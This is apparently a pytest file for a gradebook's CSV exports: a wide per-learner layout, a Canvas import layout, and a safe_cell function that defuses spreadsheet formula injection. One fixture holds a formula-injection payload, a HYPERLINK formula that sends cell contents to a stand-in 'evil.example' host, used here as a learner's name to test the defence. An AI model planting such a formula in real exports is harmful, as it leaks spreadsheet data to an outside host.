"""Gradebook exports: the wide CSV, Canvas's import layout, and no formulas from learner-chosen text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.course_file import CourseFile
from app.gradebook import Attempt, AttemptStatus, LessonPolicy, grade_course, grade_lesson
from app.gradebook_csv import CANVAS_IDENTITY, GradebookRow, Learner, LessonColumn, canvas_csv, safe_cell, wide_csv

DUE = datetime(2027, 1, 15, 23, 59, tzinfo=UTC)
COURSE = CourseFile.model_validate({"deadlines": {"gru-vs-lstm": DUE}, "late": {"penalty_per_day": 0.1}})
LESSONS = [LessonColumn("sequence-windows", "Sequence windows", "4321"), LessonColumn("gru-vs-lstm", "GRU or LSTM?")]
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def row(learner: Learner, **attempts: list[Attempt]) -> GradebookRow:
    by_lesson = {slug.replace("_", "-"): list(a) for slug, a in attempts.items()}
    return GradebookRow(learner, grade_course(by_lesson, COURSE, [c.slug for c in LESSONS]))


def passed(when: datetime, score: float = 1.0, status: str = "passed") -> Attempt:
    return Attempt(submitted_at=when, status=AttemptStatus(status), score=score)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


ADA = Learner("Ada Lovelace", "ada@example.org", "A", canvas_id="101", sis_user_id="S1", sis_login_id="ada")
MALLORY = Learner(EVIL, "+1@example.org", "-B", canvas_id="102", sis_user_id="@S2", sis_login_id="\tmallory")
ROWS = [
    row(ADA, sequence_windows=[passed(DUE - timedelta(days=3))], gru_vs_lstm=[passed(DUE + timedelta(days=2))]),
    row(MALLORY, gru_vs_lstm=[passed(DUE - timedelta(days=1), 0.5, "failed")]),
]


@pytest.mark.parametrize(("cell", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("\nx", "'\nx"), ("Ada", "Ada"), ("", ""), (None, ""), (0.5, "0.5"), ("a=b", "a=b"), ("'=already", "'=already"),
])
def test_safe_cell_prefixes_formula_starts_with_a_quote(cell: object, expected: str) -> None:
    assert safe_cell(cell) == expected


@given(st.text())
def test_no_cell_can_start_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0")) and cell.endswith(text)


def test_a_learner_named_like_a_formula_is_written_as_text_everywhere() -> None:
    for text in (wide_csv(ROWS, LESSONS), canvas_csv(ROWS, LESSONS)):
        table = read(text)
        cells = [cell for line in table for cell in line]
        assert "'" + EVIL in cells  # the quotes inside survive, thanks to the csv module's quoting
        assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells)


def test_wide_csv_has_one_row_per_learner_and_the_policy_columns() -> None:
    table = read(wide_csv(ROWS, LESSONS))
    header = table[0]
    assert header[:3] == ["learner", "email", "section"]
    assert header[3:10] == [f"sequence-windows {f}" for f in
                            ("score", "status", "attempts", "last submission", "late", "days late", "too late")]
    assert len(header) == 3 + 7 * len(LESSONS) and len(table) == 3
    ada = dict(zip(header, table[1], strict=True))
    assert ada["learner"] == "Ada Lovelace" and ada["email"] == "ada@example.org"
    assert ada["sequence-windows score"] == "1" and ada["sequence-windows status"] == "passed"
    assert ada["gru-vs-lstm score"] == "0.8" and ada["gru-vs-lstm late"] == "yes" and ada["gru-vs-lstm days late"] == "2"
    assert ada["gru-vs-lstm last submission"] == "2027-01-17T23:59+00:00"
    mallory = dict(zip(header, table[2], strict=True))
    assert mallory["email"] == "'+1@example.org" and mallory["section"] == "'-B"
    assert mallory["sequence-windows status"] == "not_started" and mallory["sequence-windows score"] == ""
    assert mallory["gru-vs-lstm score"] == "0.5" and mallory["gru-vs-lstm status"] == "failed"


def test_wide_csv_times_are_in_the_given_zone() -> None:
    table = read(wide_csv(ROWS[:1], LESSONS, zone=ZoneInfo("Europe/Berlin")))
    assert table[1][table[0].index("gru-vs-lstm last submission")] == "2027-01-18T00:59+01:00"


def test_wide_csv_treats_a_missing_lesson_as_not_started() -> None:
    table = read(wide_csv([GradebookRow(ADA, {})], LESSONS[:1]))
    assert table[1][3:] == ["", "not_started", "0", "", "no", "0", "0"]


def test_canvas_csv_has_the_import_layout() -> None:
    table = read(canvas_csv(ROWS, LESSONS, points_possible=10))
    assert table[0] == list(CANVAS_IDENTITY) + ["Sequence windows (4321)", "GRU or LSTM?"]
    assert table[0][:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert table[1] == ["    Points Possible", "", "", "", "", "10", "10"]
    assert table[2] == ["Ada Lovelace", "101", "S1", "ada", "A", "10", "8"]
    assert table[3] == ["'" + EVIL, "102", "'@S2", "'\tmallory", "'-B", "", "5"]
    assert all(len(line) == len(table[0]) for line in table)


def test_canvas_csv_scores_are_points_rounded_to_two_places() -> None:
    grade = grade_lesson([passed(DUE, 2 / 3, "failed")], LessonPolicy.from_course(COURSE, "gru-vs-lstm"))
    table = read(canvas_csv([GradebookRow(ADA, {"gru-vs-lstm": grade})], LESSONS[1:]))
    assert table[2][-1] == "66.67" and table[1][-1] == "100"


def test_canvas_csv_refuses_non_positive_points() -> None:
    with pytest.raises(ValueError, match="points_possible"):
        canvas_csv(ROWS, LESSONS, points_possible=0)


def test_csv_lines_end_with_crlf_as_rfc_4180_says() -> None:
    text = canvas_csv(ROWS, LESSONS)
    assert text.count("\r\n") == 4 and "\n" not in text.replace("\r\n", "")
